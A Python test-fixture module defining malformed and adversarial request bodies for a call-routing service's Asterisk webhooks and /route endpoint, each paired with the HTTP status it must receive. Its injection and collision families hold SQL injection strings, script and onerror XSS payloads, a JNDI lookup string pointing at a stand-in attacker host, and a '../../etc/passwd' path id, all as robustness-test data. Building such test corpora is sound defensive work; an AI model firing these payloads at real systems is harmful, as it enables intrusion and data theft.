"""The hostile-input corpus, as data: malformed and adversarial bodies for the switchboards' webhooks
(ari, ami, cdr, cel) and the /route dialogue, grouped in families, each case with the answer it must
get (issue 9, item 4).

Every case names the status the service must answer. What follows from it:

- a 2xx on a webhook: the body is odd but legitimate data, and every event of it is stored exactly as
  sent (``stored_form``: a JSON event in its canonical form — the single-event JSON bodies here are
  sent in that form, so the stored bytes are the bytes sent — an AMI text block without the blank
  line that ends it, a form-encoded record as the JSON object of its fields);
- a 400 or 422 on a webhook: a clear JSON error naming what was wrong (``mentions``), and the body
  kept in the quarantine byte for byte;
- a 413: refused before the body is read, so nothing is kept (a body over 1 MiB is not stored
  anywhere, by design);
- on /route: the dialplan always gets an action; a refusal is a 4xx carrying ``action=queue`` and an
  ``error`` naming the field, and nothing is kept (a routing question is not an event).

No case may ever be answered 5xx. The tests in test_webhook_corpus.py post every case and keep a
tally per family (``TALLY``) for docs/reliability.md.
"""

from __future__ import annotations

import itertools
import json
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qsl, urlencode

SWITCHBOARDS = ("hanoi", "danang", "angiang")
WEBHOOK_SOURCES = ("ari", "ami", "cdr", "cel")
JSON = "application/json"
FORM = "application/x-www-form-urlencoded"
TEXT = "text/plain"
MAX_BODY = 1024 * 1024


@dataclass(frozen=True)
class Case:
    name: str
    source: str  # ari, ami, cdr, cel or route
    body: bytes
    expect: int  # the status the service must answer
    content_type: str = JSON
    switchboard: str = "hanoi"
    mentions: str | None = None  # what the error message must name
    headers: tuple[tuple[str, str], ...] = ()
    duplicate: bool = False  # a 200 that must store nothing new (a retransmission)
    accept_json: bool = False  # /route: ask for the answer as JSON

    @property
    def kept(self) -> str:
        """What the service must keep of this body: stored, quarantined or nothing."""
        if self.source == "route" or self.expect == 413:
            return "nothing"
        if 200 <= self.expect < 300:
            return "nothing" if self.duplicate else "stored"
        return "quarantined"


@dataclass(frozen=True)
class Family:
    name: str
    what: str
    cases: tuple[Case, ...]
    # linkedids that must end as one call per switchboard they were posted to
    distinct_calls: tuple[str, ...] = ()


# ---- building blocks -----------------------------------------------------------------------------

_seq = itertools.count(1)


def new_id() -> str:
    """A fresh Asterisk id (epoch.sequence): every case stands for its own call."""
    return f"1748744102.{next(_seq) * 10 + 90000}"


def canonical(obj: Any) -> bytes:
    """The form in which the service stores a JSON event (sorted keys, no spaces, UTF-8)."""
    return json.dumps(obj, sort_keys=True, ensure_ascii=False, separators=(",", ":")).encode("utf-8")


AT = "2025-06-01T09:15:02.345+0700"
LOCAL_AT = "2025-06-01 09:15:02"
HOA = "Nguyễn Thị Hoa"


def ari(
    linkedid: str | None = None,
    *,
    etype: Any = "StasisStart",
    timestamp: Any = AT,
    caller_name: Any = HOA,
    caller_number: Any = "0912345678",
    channel_name: Any = "PJSIP/trunk-00000001",
    **extra: Any,
) -> dict[str, Any]:
    lk = linkedid or new_id()
    channel = {
        "id": lk,
        "name": channel_name,
        "state": "Ring",
        "caller": {"name": caller_name, "number": caller_number},
        "connected": {"name": "", "number": ""},
        "accountcode": "",
        "dialplan": {"context": "hotline", "exten": "111", "priority": 1, "app_name": "", "app_data": ""},
        "creationtime": AT,
        "language": "vi",
        "channelvars": {"CHANNEL(linkedid)": lk},
    }
    event = {
        "type": etype,
        "timestamp": timestamp,
        "application": "hotline",
        "asterisk_id": "00:16:3e:00:00:01",
        "args": [],
        "channel": channel,
    }
    event.update(extra)
    return event


def ami(
    linkedid: str | None = None,
    *,
    event: Any = "Newchannel",
    timestamp: Any = "1748744102.345000",
    caller_name: Any = HOA,
    caller_number: Any = "0912345678",
    channel: Any = "PJSIP/trunk-00000001",
    **extra: Any,
) -> dict[str, Any]:
    lk = linkedid or new_id()
    fields = {
        "Event": event,
        "Privilege": "call,all",
        "Timestamp": timestamp,
        "Channel": channel,
        "ChannelState": "4",
        "ChannelStateDesc": "Ring",
        "CallerIDNum": caller_number,
        "CallerIDName": caller_name,
        "Context": "hotline",
        "Exten": "111",
        "Uniqueid": lk,
        "Linkedid": lk,
    }
    fields.update(extra)
    return fields


def cdr(
    linkedid: str | None = None,
    *,
    start: Any = LOCAL_AT,
    end: Any = "2025-06-01 09:16:02",
    clid: Any = f'"{HOA}" <0912345678>',
    src: Any = "0912345678",
    channel: Any = "PJSIP/trunk-00000001",
    **extra: Any,
) -> dict[str, Any]:
    lk = linkedid or new_id()
    record = {
        "clid": clid,
        "src": src,
        "dst": "111",
        "channel": channel,
        "dstchannel": "",
        "start": start,
        "answer": "",
        "end": end,
        "duration": "60",
        "billsec": "0",
        "disposition": "NO ANSWER",
        "uniqueid": lk,
        "linkedid": lk,
        "userfield": "",
    }
    record.update(extra)
    return record


def cel(
    linkedid: str | None = None,
    *,
    name: Any = "CHAN_START",
    time: Any = LOCAL_AT + ".345000",
    caller_name: Any = HOA,
    caller_number: Any = "0912345678",
    channel: Any = "PJSIP/trunk-00000001",
    **extra: Any,
) -> dict[str, Any]:
    lk = linkedid or new_id()
    event = {
        "EventName": name,
        "EventTime": time,
        "CallerIDname": caller_name,
        "CallerIDnum": caller_number,
        "Exten": "111",
        "Context": "hotline",
        "Channel": channel,
        "Application": "",
        "AppData": "",
        "UniqueID": lk,
        "LinkedID": lk,
        "Peer": "",
        "Extra": "",
    }
    event.update(extra)
    return event


def ami_text(*events: dict[str, Any]) -> bytes:
    """AMI as the manager interface writes it: ``Key: value`` lines, a blank line after each event."""
    return "".join("".join(f"{k}: {v}\r\n" for k, v in e.items()) + "\r\n" for e in events).encode()


def form(record: dict[str, Any]) -> bytes:
    return urlencode(record).encode()


def route_form(**fields: Any) -> bytes:
    return urlencode({"linkedid": new_id(), "caller": "0912345678", "exten": "111", **fields}).encode()


def route_json(**fields: Any) -> bytes:
    return json.dumps({"linkedid": new_id(), "caller": "0912345678", "exten": "111", **fields}).encode()


def nested(depth: int, leaf: Any = 1) -> Any:
    """``{"a": {"a": … leaf}}`` ``depth`` levels deep (built without recursion)."""
    value = leaf
    for _ in range(depth):
        value = {"a": value}
    return value


def nested_text(depth: int) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


def stored_form(case: Case) -> list[bytes]:
    """The events of a body as the service stores them (see the module's docstring)."""
    if case.source == "ami" and not case.body.lstrip().startswith((b"{", b"[")):
        blocks = case.body.decode().replace("\r\n", "\n").split("\n\n")
        return [b.strip().replace("\n", "\r\n").encode() for b in blocks if b.strip()]
    if case.content_type == FORM:
        return [canonical(dict(parse_qsl(case.body.decode(), keep_blank_values=True)))]
    data = json.loads(case.body)
    return [canonical(item) for item in (data if isinstance(data, list) else [data])]


def _one(source: str, obj: dict[str, Any], expect: int = 200, **kw: Any) -> Case:
    """One event as one JSON body in canonical form, named after ``kw['name']``."""
    return Case(source=source, body=canonical(obj), expect=expect, **kw)


# ---- the families --------------------------------------------------------------------------------


def _truncated() -> Family:
    cases: list[Case] = []
    for source, event in (("ari", ari()), ("ami", ami()), ("cdr", cdr()), ("cel", cel())):
        full = canonical(event)
        for label, body in (
            ("half", full[: len(full) // 2]),
            ("last byte missing", full[:-1]),
            ("opening brace only", b"{"),
            ("cut inside a string", full[: full.index(b"0912345678") + 4]),
            ("array cut after an event", b"[" + full + b","),
        ):
            cases.append(Case(f"{source}: {label}", source, body, 400, mentions="not valid JSON"))
    text = ami_text(ami())
    cases.append(
        Case(
            "ami text: cut inside a key",
            "ami",
            text[: text.index(b"Linkedid") + 4],
            422,
            TEXT,
            mentions="Key",
        )
    )
    rec = cdr()
    record = form({"uniqueid": rec["uniqueid"], "linkedid": rec["linkedid"], **rec})
    cases.append(
        Case(
            "cdr form: cut inside a time",
            "cdr",
            record[: record.index(b"start=") + 16],
            422,
            FORM,
            mentions="start",
        )
    )
    cases.append(
        Case("cel form: cut after a '&'", "cel", form(cel())[:40] + b"&Event", 400, FORM, mentions="form")
    )
    body = route_json()
    cases += [
        Case("route json: cut", "route", body[:-3], 400, JSON, mentions="not valid JSON"),
        Case(
            "route form: a field without '='",
            "route",
            b"linkedid=1748744102.5&call",
            400,
            FORM,
            mentions="form",
        ),
    ]
    return Family(
        "truncated JSON",
        "bodies cut short: in a string, before the closing brace, after a comma",
        tuple(cases),
    )


def _wrong_types() -> Family:
    lk = new_id()
    cases = [
        Case("ari: a JSON string", "ari", b'"StasisStart"', 422, mentions="JSON object"),
        Case("ari: a number", "ari", b"42", 422, mentions="JSON object"),
        Case("ari: null", "ari", b"null", 422, mentions="JSON object"),
        Case("ari: an object then a number", "ari", canonical([ari(), 5]), 422, mentions="event 1"),
        _one("ari", ari(etype=5), 422, name="ari: type is a number", mentions="type"),
        _one("ari", ari(etype=""), 422, name="ari: type is empty", mentions="type"),
        _one("ari", ari(timestamp=1748744102), 422, name="ari: timestamp is a number", mentions="timestamp"),
        _one("ari", ari(timestamp="yesterday"), 422, name="ari: timestamp is a word", mentions="timestamp"),
        _one(
            "ari",
            ari(timestamp="2025-06-01T09:15:02"),
            422,
            name="ari: timestamp without offset",
            mentions="offset",
        ),
        _one("ari", ari(channel=[]), 422, name="ari: channel is an array", mentions="channel"),
        _one("ari", ari(channel="PJSIP/x"), 422, name="ari: channel is text", mentions="channel"),
        _one(
            "ari",
            ari(channel={"name": "PJSIP/x"}),
            422,
            name="ari: channel without id",
            mentions="channel.id",
        ),
        _one(
            "ari",
            ari(channel={"id": {"x": 1}, "name": "PJSIP/x"}),
            422,
            name="ari: channel.id is an object",
            mentions="channel.id",
        ),
        _one(
            "ari",
            ari(channel={"id": lk, "name": "PJSIP/x", "channelvars": ["CHANNEL(linkedid)"]}),
            422,
            name="ari: channelvars is an array",
            mentions="channelvars",
        ),
        _one(
            "ari",
            {"type": "Dial", "timestamp": AT, "peer": None, "dialstatus": "ANSWER"},
            422,
            name="ari: Dial without a peer",
            mentions="peer",
        ),
        _one(
            "ari",
            {"type": "RecordingFinished", "timestamp": AT, "recording": "rec-1"},
            422,
            name="ari: recording is text",
            mentions="recording",
        ),
        _one(
            "ari",
            ari(etype="ChannelEnteredBridge", bridge=[]),
            422,
            name="ari: bridge is an array",
            mentions="bridge",
        ),
        Case("ami: an array of strings", "ami", b'["Event: Newchannel"]', 422, mentions="JSON object"),
        _one(
            "ami",
            {k: v for k, v in ami().items() if k != "Event"},
            422,
            name="ami: no Event",
            mentions="Event",
        ),
        _one("ami", ami(event=["Newchannel"]), 422, name="ami: Event is an array", mentions="Event"),
        _one("ami", ami(timestamp="soon"), 422, name="ami: Timestamp is a word", mentions="Timestamp"),
        _one("ami", ami(timestamp={"s": 1}), 422, name="ami: Timestamp is an object", mentions="Timestamp"),
        _one("ami", ami(Uniqueid="a b c"), 422, name="ami: Uniqueid with spaces", mentions="Uniqueid"),
        _one(
            "ami",
            {k: v for k, v in ami().items() if k != "Linkedid"},
            422,
            name="ami: Uniqueid without Linkedid",
            mentions="Linkedid",
        ),
        Case(
            "ami text: a line without ':'",
            "ami",
            b"Event: Newchannel\r\nChannel PJSIP/x\r\n\r\n",
            422,
            TEXT,
            mentions="Key",
        ),
        Case(
            "ami text: an empty key",
            "ami",
            b"Event: Newchannel\r\n: value\r\n\r\n",
            422,
            TEXT,
            mentions="Key",
        ),
        Case("cdr: an array of strings", "cdr", b'["start", "end"]', 422, mentions="JSON object"),
        _one(
            "cdr",
            {k: v for k, v in cdr().items() if k != "linkedid"},
            422,
            name="cdr: no linkedid",
            mentions="linkedid",
        ),
        _one("cdr", cdr(start=["2025-06-01"]), 422, name="cdr: start is an array", mentions="start"),
        _one("cdr", cdr(start=True), 422, name="cdr: start is true", mentions="start"),
        _one("cdr", cdr(end="2025-06-01 09:00:00"), 422, name="cdr: end before start", mentions="end"),
        _one(
            "cdr", cdr(answeredtime="ten"), 422, name="cdr: answeredtime is a word", mentions="answeredtime"
        ),
        _one("cdr", cdr(answeredtime="NaN"), 422, name="cdr: answeredtime is NaN", mentions="answeredtime"),
        _one(
            "cdr", cdr(answeredtime="-5"), 422, name="cdr: answeredtime is negative", mentions="answeredtime"
        ),
        Case(
            "cdr form: 201 fields",
            "cdr",
            "&".join(f"f{i}=x" for i in range(201)).encode(),
            400,
            FORM,
            mentions="form",
        ),
        _one("cel", cel(name={"x": 1}), 422, name="cel: EventName is an object", mentions="EventName"),
        _one("cel", cel(time=True), 422, name="cel: EventTime is true", mentions="EventTime"),
        _one(
            "cel",
            {k: v for k, v in cel().items() if k != "LinkedID"},
            422,
            name="cel: no LinkedID",
            mentions="LinkedID",
        ),
        _one(
            "cel",
            cel(AMAFlags=3, Extra={"hangupcause": [16]}),
            200,
            name="cel: a number and an object where Asterisk writes text (kept)",
        ),
        Case(
            "route json: linkedid is an array",
            "route",
            route_json(linkedid=["1.2"]),
            422,
            JSON,
            mentions="linkedid",
        ),
        Case(
            "route json: attempt is a word", "route", route_json(attempt="two"), 422, JSON, mentions="attempt"
        ),
        Case(
            "route json: attempt is a float", "route", route_json(attempt=1.5), 422, JSON, mentions="attempt"
        ),
        Case("route json: an array", "route", b"[1, 2]", 400, JSON, mentions="JSON object"),
        Case("route json: null", "route", b"null", 400, JSON, mentions="JSON object"),
        Case(
            "route json: region is a number",
            "route",
            route_json(ivr_region=5),
            422,
            JSON,
            mentions="ivr_region",
        ),
        Case("route form: no linkedid", "route", b"caller=0912345678", 422, FORM, mentions="linkedid"),
        Case(
            "route form: origin at an unknown board",
            "route",
            route_form(origin="saigon:1.2"),
            422,
            FORM,
            mentions="origin",
        ),
    ]
    return Family(
        "wrong types",
        "numbers, arrays, null and objects where text or objects are expected; missing required fields",
        tuple(cases),
    )


def _huge() -> Family:
    many = [ari() for _ in range(1001)]
    blocks = ami_text(*(ami() for _ in range(1001)))
    thousand = [cel() for _ in range(1000)]
    big_args = ari(args=[f"a{i}" for i in range(60_000)])
    cases = [
        Case("ari: 1,001 events", "ari", canonical(many), 400, mentions="at most 1000"),
        Case("ami text: 1,001 events", "ami", blocks, 400, TEXT, mentions="at most 1000"),
        Case("cel: 1,000 events (the limit)", "cel", canonical(thousand), 200),
        _one("ari", big_args, 200, name="ari: args of 60,000 items"),
        Case("ari: an empty array", "ari", b"[]", 400, mentions="empty array"),
        Case("cdr: over 1 MiB", "cdr", b"[" + b" " * MAX_BODY + b"]", 413, mentions="1 MiB"),
        Case(
            "ami: over 1 MiB of text",
            "ami",
            b"Event: X\r\n" * (MAX_BODY // 10 + 1),
            413,
            TEXT,
            mentions="1 MiB",
        ),
        Case("route: over 1 MiB", "route", b"linkedid=1.2&x=" + b"a" * MAX_BODY, 413, FORM),
        Case(
            "route json: caller is a huge array",
            "route",
            route_json(caller=["0"] * 50_000),
            422,
            JSON,
            mentions="caller",
        ),
        Case(
            "route form: 51 fields",
            "route",
            "&".join(f"f{i}=x" for i in range(51)).encode(),
            400,
            FORM,
            mentions="form",
        ),
    ]
    return Family("huge arrays", "more events than allowed, huge fields, bodies over 1 MiB", tuple(cases))


def _deep() -> Family:
    cases = [
        Case(
            "ari: 100,000 nested arrays",
            "ari",
            b"[" * 100_000 + b"]" * 100_000,
            400,
            mentions="nested too deeply",
        ),
        Case("ami: 5,000 nested objects", "ami", nested_text(5000), 400, mentions="nested too deeply"),
        Case("cdr: 5,000 nested objects", "cdr", nested_text(5000), 400, mentions="nested too deeply"),
        Case(
            "cel: Extra 3,000 levels deep",
            "cel",
            canonical(cel())[:-1] + b',"deep":' + nested_text(3000) + b"}",
            400,
            mentions="nested too deeply",
        ),
        _one("ari", ari(args=[nested(50)]), 200, name="ari: args 50 levels deep (kept)"),
        _one("cel", cel(Extra=nested(20)), 200, name="cel: Extra 20 levels deep (kept)"),
        _one(
            "cel",
            cel(name="HANGUP", Extra=nested_text(5000).decode()),
            200,
            name="cel: Extra text holding JSON 5,000 levels deep (kept, not read)",
        ),
        Case(
            "route json: 100,000 nested arrays",
            "route",
            b"[" * 100_000 + b"]" * 100_000,
            400,
            JSON,
            mentions="nested too deeply",
        ),
        Case(
            "route json: linkedid 5,000 levels deep",
            "route",
            b'{"linkedid":' + nested_text(5000) + b"}",
            400,
            JSON,
            mentions="nested too deeply",
        ),
    ]
    return Family("deep nesting", "arrays and objects nested thousands of levels deep", tuple(cases))


def _utf8() -> Family:
    cases: list[Case] = []
    for source, event in (("ari", ari()), ("ami", ami()), ("cdr", cdr()), ("cel", cel())):
        full = canonical(event)
        at = full.index(HOA.encode())
        for label, bad in (
            ("a 0xFF byte", b"\xff"),
            ("an overlong '/'", b"\xc0\xaf"),
            ("a UTF-8-encoded surrogate", b"\xed\xa0\x80"),
            ("Latin-1 text", "Hélène".encode("latin-1")),
        ):
            cases.append(
                Case(
                    f"{source}: {label} in a name",
                    source,
                    full[:at] + bad + full[at:],
                    400,
                    mentions="not UTF-8",
                )
            )
        # "Nguy" then the first byte of "ễ"
        cases.append(
            Case(f"{source}: cut inside a character", source, full[: at + 5], 400, mentions="not UTF-8")
        )
        # valid JSON, but a lone UTF-16 surrogate is not a character: it cannot be stored as text
        escaped = full.replace(HOA.encode(), b"\\ud800Hoa")
        cases.append(Case(f"{source}: a lone surrogate escaped", source, escaped, 422, mentions="surrogate"))
    cases += [
        Case(
            "ari: a UTF-8 byte order mark",
            "ari",
            b"\xef\xbb\xbf" + canonical(ari()),
            400,
            mentions="not valid JSON",
        ),
        Case(
            "ami text: Latin-1",
            "ami",
            "Event: Newchannel\r\nCallerIDName: Hélène\r\n\r\n".encode("latin-1"),
            400,
            TEXT,
            mentions="not UTF-8",
        ),
        Case("cdr form: %FF in clid", "cdr", form(cdr()) + b"&clid=%FF%FE", 400, FORM, mentions="not UTF-8"),
        Case(
            "route: invalid UTF-8",
            "route",
            b"linkedid=1748744102.5&caller=\xff",
            400,
            FORM,
            mentions="not UTF-8",
        ),
        Case(
            "route json: a lone surrogate in caller",
            "route",
            route_json()[:-1] + b', "caller": "\\udc00"}',
            422,
            JSON,
            mentions="caller",
        ),
    ]
    return Family(
        "invalid UTF-8", "bytes that are not UTF-8, and JSON escapes of lone surrogates", tuple(cases)
    )


def _nul() -> Family:
    cases: list[Case] = []
    for source, event in (("ari", ari()), ("ami", ami()), ("cdr", cdr()), ("cel", cel())):
        full = canonical(event)
        at = full.index(HOA.encode())
        cases.append(
            Case(
                f"{source}: a NUL byte in a name",
                source,
                full[:at] + b"\x00" + full[at:],
                400,
                mentions="NUL",
            )
        )
        cases.append(
            Case(f"{source}: a NUL byte after the body", source, full + b"\x00", 400, mentions="NUL")
        )
        # escaped, the JSON is valid; PostgreSQL text cannot hold a NUL character
        cases.append(
            Case(
                f"{source}: an escaped NUL in a name",
                source,
                full.replace(HOA.encode(), b"Hoa\\u0000"),
                422,
                mentions="NUL",
            )
        )
    cases += [
        _one(
            "ari",
            ari(channel_name="PJSIP/trunk\u0000-1"),
            422,
            name="ari: an escaped NUL in the channel",
            mentions="NUL",
        ),
        _one(
            "ari", ari(etype="Stasis\u0000Start"), 422, name="ari: an escaped NUL in the type", mentions="NUL"
        ),
        _one(
            "cel", cel(name="CHAN_START\u0000"), 422, name="cel: an escaped NUL in EventName", mentions="NUL"
        ),
        Case(
            "ami text: a NUL byte",
            "ami",
            b"Event: Newchannel\r\nChannel: PJSIP/\x00x\r\n\r\n",
            400,
            TEXT,
            mentions="NUL",
        ),
        Case("cdr form: a NUL byte", "cdr", form(cdr()) + b"&clid=\x00", 400, FORM, mentions="NUL"),
        Case(
            "cdr form: %00 in channel", "cdr", form(cdr(channel="PJSIP/\x00trunk")), 422, FORM, mentions="NUL"
        ),
        Case(
            "cel form: %00 in CallerIDname",
            "cel",
            form(cel(caller_name="Hoa\x00")),
            422,
            FORM,
            mentions="NUL",
        ),
        Case(
            "route form: %00 in caller", "route", route_form(caller="091\x00"), 422, FORM, mentions="caller"
        ),
        Case(
            "route form: %00 in linkedid",
            "route",
            route_form(linkedid="1748744102.5\x00"),
            422,
            FORM,
            mentions="linkedid",
        ),
        Case("route: a NUL byte", "route", b"linkedid=1748744102.5\x00", 422, FORM, mentions="linkedid"),
    ]
    return Family("NUL bytes", "raw NUL bytes, and NUL characters escaped in JSON or in a form", tuple(cases))


SQL = "Robert'); DROP TABLE calls;--"
NAMES = (
    ("SQL", SQL),
    ("SQL comment", "x' OR '1'='1' /*"),
    ("script", "<script>alert(document.cookie)</script>"),
    ("img onerror", '<img src=x onerror="alert(1)">'),
    ("template", "{{7*7}} ${jndi:ldap://attacker/x} %s%n"),
    ("emoji and a right-to-left override", "👩‍👧 Hoa \u202egnp.exe"),
    ("combining marks", "N\u0303\u0301\u0300g\u0336uy\u0489\u0489\u0489ễn"),
    ("5,000 characters", "Nguyễn " * 714 + "Hoa"),
)


def _injection() -> Family:
    cases: list[Case] = []
    for label, name in NAMES:
        cases.append(_one("ari", ari(caller_name=name), name=f"ari: {label} in caller.name"))
        cases.append(_one("ami", ami(caller_name=name), name=f"ami: {label} in CallerIDName"))
        cases.append(_one("cdr", cdr(clid=f'"{name}" <0912345678>'), name=f"cdr: {label} in clid"))
        cases.append(_one("cel", cel(caller_name=name), name=f"cel: {label} in CallerIDname"))
    cases += [
        Case("ami text: SQL in CallerIDName", "ami", ami_text(ami(caller_name=SQL)), 200, TEXT),
        Case("cdr form: a script in clid", "cdr", form(cdr(clid="<script>alert(1)</script>")), 200, FORM),
        _one("ari", ari(caller_number="' OR '1'='1"), name="ari: SQL in caller.number"),
        _one("ami", ami(channel="PJSIP/trunk'; DROP TABLE webhook_events;--"), name="ami: SQL in Channel"),
        _one(
            "cel", cel(Application="<script>x</script>", AppData="'; --"), name="cel: script in Application"
        ),
        Case("route: SQL as caller", "route", route_form(caller="' OR 1=1--"), 422, FORM, mentions="caller"),
        Case("route: a script as exten", "route", route_form(exten="<script>"), 422, FORM, mentions="exten"),
        Case(
            "route json: SQL as previous_target",
            "route",
            route_json(previous_target="x'; DROP"),
            422,
            JSON,
            mentions="previous_target",
        ),
    ]
    return Family(
        "SQL and script in caller names",
        "SQL, HTML/script, template and format strings, emoji, bidi overrides, very long names",
        tuple(cases),
    )


def _times() -> Family:
    soon = (datetime.now(UTC) + timedelta(hours=12)).strftime("%Y-%m-%dT%H:%M:%S.000+0000")
    later = (datetime.now(UTC) + timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%S.000+0000")
    cases: list[Case] = []
    for label, stamp in (
        ("1970", "1970-01-01T00:00:00.000+0000"),
        ("year 1", "0001-01-01T00:00:00.000+0700"),
        ("year 9999", "9999-12-31T23:59:59.999+0700"),
        ("year 9999 west of UTC", "9999-12-31T23:59:59.999-1200"),
        ("2100", "2100-01-01T00:00:00.000+0700"),
        ("just before 2000", "1999-12-31T23:59:59.999+0000"),
        ("two days ahead", later),
        ("30 February", "2025-02-30T10:00:00.000+0700"),
        ("a leap second", "2025-06-30T23:59:60.000+0000"),
        ("an offset of 25 hours", "2025-06-01T09:15:02.345+2500"),
    ):
        cases.append(_one("ari", ari(timestamp=stamp), 422, name=f"ari: {label}", mentions="timestamp"))
    cases += [
        _one(
            "ari", ari(timestamp="2000-01-01T00:00:00.000+0000"), name="ari: 2000-01-01 (the earliest kept)"
        ),
        _one("ari", ari(timestamp=soon), name="ari: 12 hours ahead (a PBX clock off by a zone)"),
    ]
    for label, stamp in (
        ("0", "0"),
        ("-1", "-1"),
        ("1e300", "1e300"),
        ("nan", "nan"),
        ("inf", "inf"),
        ("year 1", "-62135596800"),
        ("year 10000", "253402300800"),
    ):
        cases.append(
            _one("ami", ami(timestamp=stamp), 422, name=f"ami: Timestamp {label}", mentions="Timestamp")
        )
    for label, stamp in (
        ("1900", "1900-01-01 00:00:00"),
        ("year 1", "0001-01-01 00:00:00"),
        ("year 9999", "9999-12-31 23:59:59"),
        ("all zeros", "0000-00-00 00:00:00"),
        ("epoch 0", "0"),
    ):
        cases.append(_one("cdr", cdr(start=stamp, end=""), 422, name=f"cdr: start {label}", mentions="start"))
    cases.append(_one("cdr", cdr(end="9999-12-31 23:59:59"), 422, name="cdr: end year 9999", mentions="end"))
    for label, stamp in (
        ("0", "0"),
        ("year 1", "0001-01-01 00:00:00.000000"),
        ("year 9999", "9999-12-31 23:59:59.999999"),
        ("1.0e3", "1.0e3"),
    ):
        cases.append(_one("cel", cel(time=stamp), 422, name=f"cel: EventTime {label}", mentions="EventTime"))
    cases.append(_one("cel", cel(time="946684800"), name="cel: EventTime 2000-01-01 as epoch (kept)"))
    return Family(
        "far past and future timestamps",
        "times before 2000 or more than a day ahead (a broken PBX clock), impossible dates; "
        "2000-01-01 and a few hours ahead are kept",
        tuple(cases),
    )


def _collisions() -> tuple[Family, str]:
    lk = new_id()
    shared_ari = canonical(ari(lk))
    shared_ami = ami_text(ami(lk, event="Newstate"))
    shared_cdr = canonical(cdr(lk))
    shared_cel = canonical(cel(lk, name="LINKEDID_END"))
    same_wid = (("webhook-id", "msg_collide_1"),)
    cases: list[Case] = []
    for sb in SWITCHBOARDS:
        cases += [
            Case(f"ari: the same StasisStart at {sb}", "ari", shared_ari, 200, switchboard=sb),
            Case(f"ami text: the same Newstate at {sb}", "ami", shared_ami, 200, TEXT, switchboard=sb),
            Case(f"cdr: the same CDR at {sb}", "cdr", shared_cdr, 200, switchboard=sb),
            Case(f"cel: the same LINKEDID_END at {sb}", "cel", shared_cel, 200, switchboard=sb),
        ]
    other = new_id()
    cases += [
        Case("ari: webhook-id used at hanoi", "ari", canonical(ari(other)), 200, headers=same_wid),
        Case(
            "ari: the same webhook-id at danang",
            "ari",
            canonical(ari(other, etype="ChannelStateChange")),
            200,
            switchboard="danang",
            headers=same_wid,
        ),
        Case("ari: the hanoi body again (a retransmission)", "ari", shared_ari, 200, duplicate=True),
        Case(
            "ari: the danang message again (a retransmission)",
            "ari",
            canonical(ari(other, etype="ChannelStateChange")),
            200,
            switchboard="danang",
            headers=same_wid,
            duplicate=True,
        ),
        # a sender that reuses an id for another message: stored, not taken for a retransmission
        Case(
            "ari: the same webhook-id at danang over another body",
            "ari",
            canonical(ari(other)),
            200,
            switchboard="danang",
            headers=same_wid,
        ),
        _one("ari", ari("pbx-hanoi-1748744102.77"), name="ari: a systemname-prefixed id"),
        _one("ari", ari("../../etc/passwd"), 422, name="ari: a path as the id", mentions="channel.id"),
        _one(
            "ami", ami(Uniqueid="1748744102.1 OR 1=1"), 422, name="ami: SQL in Uniqueid", mentions="Uniqueid"
        ),
        _one("cdr", cdr("9" * 129), 422, name="cdr: a 129-character linkedid", mentions="linkedid"),
        _one("cel", cel("１７４８７４４１０２.１"), 422, name="cel: full-width digits", mentions="UniqueID"),
        Case("route: the same linkedid at hanoi", "route", route_form(linkedid=lk), 200, FORM),
        Case(
            "route: the same linkedid at danang",
            "route",
            route_form(linkedid=lk),
            200,
            FORM,
            switchboard="danang",
        ),
        Case(
            "route: linkedid with a quote",
            "route",
            route_form(linkedid="1748744102.5'"),
            422,
            FORM,
            mentions="linkedid",
        ),
    ]
    family = Family(
        "ids colliding across switchboards",
        "the same linkedid, uniqueid and webhook-id from the three switchboards; ids that are not Asterisk ids",
        tuple(cases),
        distinct_calls=(lk,),
    )
    return family, lk


def _not_events() -> Family:
    cases: list[Case] = []
    for source in WEBHOOK_SOURCES:
        cases += [
            Case(f"{source}: an empty body", source, b"", 400, mentions="empty"),
            Case(f"{source}: only whitespace", source, b" \r\n\t ", 400, mentions="empty"),
            Case(
                f"{source}: XML",
                source,
                b"<event type='StasisStart'/>",
                # AMI reads what is not JSON as its own text format
                422 if source == "ami" else 400,
                "application/xml",
                mentions="Key" if source == "ami" else "JSON",
            ),
        ]
    cases += [
        _one("ari", {}, 422, name="ari: an empty object", mentions="type"),
        Case("ari: a form", "ari", form(cdr()), 400, FORM, mentions="JSON"),
        Case("ari: text", "ari", b"StasisStart", 400, TEXT, mentions="JSON"),
        Case("cdr: raw AMI text", "cdr", ami_text(ami()), 400, TEXT, mentions="JSON"),
        Case("ami text: only blank lines", "ami", b"\r\n\r\n\r\n", 400, TEXT, mentions="empty"),
        Case("route: empty", "route", b"", 422, FORM, mentions="linkedid"),
        Case("route: JSON asked for", "route", b"{}", 422, JSON, mentions="linkedid", accept_json=True),
    ]
    return Family(
        "not an event", "empty bodies, whitespace, XML, a form or text where JSON is expected", tuple(cases)
    )


COLLISIONS, COLLIDING_LINKEDID = _collisions()

FAMILIES: tuple[Family, ...] = (
    _truncated(),
    _wrong_types(),
    _huge(),
    _deep(),
    _utf8(),
    _nul(),
    _injection(),
    _times(),
    COLLISIONS,
    _not_events(),
)


# ---- the tally -----------------------------------------------------------------------------------


@dataclass
class FamilyTally:
    tried: int = 0
    route: int = 0  # of them, /route questions
    statuses: Counter[int] = field(default_factory=Counter)
    quarantined: int = 0
    stored: int = 0
    kept_nothing: int = 0


@dataclass
class Tally:
    """What each family was answered, for docs/reliability.md."""

    rows: dict[str, FamilyTally] = field(default_factory=dict)

    def record(self, family: str, status: int, kept: str, route: bool = False) -> None:
        row = self.rows.setdefault(family, FamilyTally())
        row.tried += 1
        row.route += route
        row.statuses[status] += 1
        if kept == "quarantined":
            row.quarantined += 1
        elif kept == "stored":
            row.stored += 1
        else:
            row.kept_nothing += 1

    def table(self) -> str:
        lines = [
            "| family | tried (of which /route) | responses | quarantined | stored as sent | nothing kept |",
            "|---|---:|---|---:|---:|---:|",
        ]
        for name, row in self.rows.items():
            statuses = ", ".join(f"{s} × {n}" for s, n in sorted(row.statuses.items()))
            lines.append(
                f"| {name} | {row.tried} ({row.route}) | {statuses} | {row.quarantined} | {row.stored} "
                f"| {row.kept_nothing} |"
            )
        total = FamilyTally()
        for row in self.rows.values():
            total.tried += row.tried
            total.route += row.route
            total.statuses.update(row.statuses)
            total.quarantined += row.quarantined
            total.stored += row.stored
            total.kept_nothing += row.kept_nothing
